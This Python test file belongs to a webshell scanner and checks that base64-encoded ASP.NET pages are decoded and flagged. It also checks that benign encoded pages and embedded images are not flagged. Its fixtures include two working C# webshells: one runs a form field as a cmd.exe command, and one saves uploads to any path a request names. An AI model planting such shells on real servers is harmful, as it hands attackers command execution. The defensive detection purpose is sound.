"""Pages kept as base64 text (once or a few times over): the file holds no code until decoded,
so the page it decodes to is analysed and, when that page's code does what a finding reports,
the file is `EXH-WS-CODE-ENCODED-PAGE` (docs/detection/webshell-code.md, "Pages kept as base64
text"). Genuine files that are base64 text, or pages that hold a base64 string, are not."""

from __future__ import annotations

import base64

import pytest

from code_support import assert_found, medium_or_above, run
from exhunt.codeanalysis.encoded import encoded_page
from exhunt.filehunt import codehunt
from exhunt.filehunt.locations import Location, Place

RUNNER = b"""<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
void Page_Load(object s, EventArgs e) {
    var p = Process.Start(new ProcessStartInfo("cmd.exe", "/c " + Request.Form["c"]) {
        RedirectStandardOutput = true, UseShellExecute = false });
    Response.Write(p.StandardOutput.ReadToEnd());
}
</script>"""

SAVER = b"""<%@ WebHandler Language="C#" Class="Keep" %>
using System.IO;
using System.Web;
public class Keep : IHttpHandler {
    public bool IsReusable { get { return true; } }
    public void ProcessRequest(HttpContext ctx) {
        ctx.Request.Files[0].SaveAs(ctx.Request.QueryString["to"]);
    }
}"""

HELLO = b"""<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object s, EventArgs e) { greeting.Text = "Hello " + DateTime.Now.Year; }
</script>
<asp:Label ID="greeting" runat="server" />"""


def b64(data: bytes, times: int = 1, wrap: int = 0) -> bytes:
    for _ in range(times):
        data = base64.b64encode(data)
    if wrap:
        data = b"\r\n".join(data[i : i + wrap] for i in range(0, len(data), wrap))
    return data


SHELLS = [
    ("once.aspx", b64(RUNNER), "once", "form field 'c'"),
    ("twice.aspx", b64(RUNNER, 2), "2 times over", "runs it as a command"),
    ("wrapped.ashx", b"\xef\xbb\xbf" + b64(SAVER, wrap=76) + b"\r\n", "once", "uploaded file"),
]


@pytest.mark.parametrize(("name", "data", "times", "does"), SHELLS, ids=[s[0] for s in SHELLS])
def test_encoded_shell_found(name: str, data: bytes, times: str, does: str) -> None:
    report = assert_found(name, data.decode(), "EXH-WS-CODE-ENCODED-PAGE", [times, does])
    assert report.units >= 1


def test_encoded_page_layers() -> None:
    assert encoded_page(b64(RUNNER, 3)) == (3, RUNNER)
    assert encoded_page(b64(RUNNER, 4)) is None  # past the layers it decodes
    assert encoded_page(b64(b"\x89PNG\r\n\x1a\n" + bytes(range(200)))) is None  # an image, not a page


BENIGN = [
    # A genuine page kept encoded (an export of a site's pages): its code does nothing reported.
    ("export.aspx", b64(HELLO)),
    # Base64 text that is not a page at all.
    ("logo.aspx", b64(b"GIF89a" + bytes(range(256)) * 2, wrap=76)),
    # A page holding a base64 string (an embedded image), not made of one.
    (
        "badge.aspx",
        b'<%@ Page Language="C#" %><img src="data:image/png;base64,'
        + b64(bytes(range(120)))
        + b'" /><% Response.Write(Request.QueryString["n"] == null ? "" : "hi"); %>',
    ),
]


@pytest.mark.parametrize(("name", "data"), BENIGN, ids=[b[0] for b in BENIGN])
def test_benign_look_alike(name: str, data: bytes) -> None:
    report = run(name, data.decode())
    assert medium_or_above(report) == [], [c.chain for c in report.capabilities]


def test_prefilter_reads_an_encoded_page_and_not_other_base64() -> None:
    def wants(name: str, data: bytes) -> bool:
        return codehunt.wants(Location(f"c:/inetpub/wwwroot/{name}", Place.IIS_WEBROOT, True), data)

    assert wants("once.aspx", b64(RUNNER))
    assert wants("twice.aspx", b64(RUNNER, 2))
    assert not wants("logo.aspx", b64(b"GIF89a" + bytes(range(256))))
    assert not wants("notes.aspx", b"plain words about base64 and nothing else, no code in them at all")
